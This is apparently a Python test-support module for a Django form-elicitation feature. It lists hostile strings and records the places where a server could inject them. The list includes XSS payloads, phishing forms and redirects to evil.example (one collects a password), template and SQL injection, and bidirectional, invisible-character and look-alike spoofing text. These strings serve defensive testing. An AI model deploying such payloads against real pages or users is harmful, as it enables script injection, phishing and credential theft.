"""Strings that may fool a person or harm their browser, and where a server can put them."""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from elicitation.core import ElicitationError
from elicitation.models import Elicitation, ServerPolicy, check_name
from tests.asking import allow, ask, form_elicitation, schema

if TYPE_CHECKING:
    from django.contrib.auth.models import User

HOSTILE: tuple[str, ...] = (
    # Markup
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='https://evil.example/'>Click here</a>",
    "<form action='https://evil.example/'><input name=password>",
    "</form><form action='//evil.example'>",
    "</label></fieldset></form></main><h1>Welcome back</h1>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</option></select><input type=password>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{display:none}</style>",
    "<!-- comment -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<b>bold</b> &amp; <i>italic</i>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&NotARealEntity;",
    "<marquee>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    # Template syntax
    "{{ request.user.password }}",
    "{% load static %}{% csrf_token %}",
    "{# comment #}",
    "{% endblock %}{% extends 'admin/base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d %%",
    "{0.__class__} {name!r}",
    # Addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/login?next=/",
    "//evil.example/",
    "www.evil.example",
    "mailto:victim@example.com?subject=hi",
    "tel:+15551234567 call +1 (555) 123-4567 on 2026-01-01",
    "[Click here](https://evil.example/) ![x](https://evil.example/x.png)",
    # CSS
    "color:red;background:url(https://evil.example/)",
    "} body { display: none } .x {",
    "expression(alert(1))",
    "</style><style>body{visibility:hidden}",
    # Bidirectional text
    "\u202emoc.elpmaxe\u202c",
    "\u2066abc\u2069\u202edef",
    "\u2069\u202egnp.exe",
    "\u200fabc\u200f",
    "\u200eabc",
    "\u061cabc",
    "שלום (שם) 123 עולם",
    "مرحبا <b>بالعالم</b> 456",
    # What nobody sees
    "pass\u200bword",
    "pass\u00adword",
    "\u2060\ufeffhidden",
    "ad\u180emin",
    "a\u034fb",
    "ㅤ",
    "\u2800",
    "\U000e0061\U000e0062\U000e0063 tags",
    "e" + "\u0301" * 60,
    "\u0e47" * 40,
    # Control characters
    "a\x00b",
    "a\x08\x08\x08b",
    "a\x1b[31mred\x1b[0m",
    "a\x7fb",
    "a\x85b",
    "line\nbreak\r\nand\rmore",
    "\u2028line\u2029paragraph",
    "\ud800half",
    # Look-alikes
    "Pаypal",
    "ⒶⒹⓂⒾⓃ",
    "𝐀𝐝𝐦𝐢𝐧 𝐬𝐚𝐲𝐬",
    # Long and odd
    "W" * 200,
    "\u200d".join("👩👩👧👦"),
    "نمی\u200cخواهم",
    "constructor",
    "__proto__",
    "action",
    "csrfmiddlewaretoken",
    " ",
    "..",
    "' OR 1=1 --",
)

#: A message after which the warning stands out, and a name that is flagged: so every page has
#: these notices, whatever the text, and differs in nothing else.
SECRET, MIXED = "Your password?", "Pаypal"

#: Schemas of properties that carry a text.
PROPERTIES: dict[str, Callable[[str], dict[str, Any]]] = {
    "title": lambda text: {"type": "string", "title": f"before {text}"[:200]},
    "description": lambda text: {"type": "integer", "description": f"before {text}"},
    "label": lambda text: {"oneOf": [{"const": "a", "title": text}, {"const": "b"}]},
    "value": lambda text: {"oneOf": [{"const": text, "title": "A"}, {"const": "b"}]},
    "select": lambda text: {"enum": [text, *map(str, range(20))]},
    "checkbox": lambda text: {
        "type": "array",
        "items": {"type": "string", "enum": [text, "b" * 20]},
    },
    "format": lambda text: {"type": "string", "format": text},
}
NAMES = frozenset({"server", "server label", "tool", "scope label"})
EVERYWHERE = NAMES | {*PROPERTIES, "message", "name of a property"}


def is_question(requested: dict[str, Any], message: str = "") -> bool:
    """Whether a question is accepted; one that is refused is shown to nobody."""
    try:
        form_elicitation(requested, message)
    except ElicitationError:
        return False
    return True


def is_name(text: str) -> bool:
    """Whether a name is accepted; that is checked before anything is asked."""
    try:
        check_name("The name", text)
    except ElicitationError:
        return False
    return True


def accepted(text: str) -> frozenset[str]:
    """Return the places where a text is not refused."""
    places = {name for name, make in PROPERTIES.items() if is_question(schema(x=make(text)))}
    if is_question(schema(), text):
        places.add("message")
    if is_question(schema(**{text: {"type": "string"}})):
        places.add("name of a property")
    if is_name(text):
        places |= NAMES
    if not is_name(f"{MIXED} {text}"):
        # As ``ask_with`` writes the name of a server, it is longer.
        places.discard("server")
    return frozenset(places)


def ask_with(texts: dict[str, str], user: User) -> Elicitation:
    """Ask one question that has these texts in these places."""
    properties = {name: make(texts[name]) for name, make in PROPERTIES.items() if name in texts}
    if "name of a property" in texts:
        properties[texts["name of a property"]] = {"type": "string"}
    server = f"{MIXED} {texts['server']}" if "server" in texts else MIXED
    ServerPolicy.objects.all().delete()
    if "server label" in texts:
        allow(server, label=f"{MIXED} {texts['server label']}"[:64])
    return ask(
        user,
        schema(**properties),
        f"before {texts['message']} password" if "message" in texts else SECRET,
        server=server,
        tool=texts.get("tool", "buy"),
        scope_label=texts.get("scope label", "")[:64],
    )
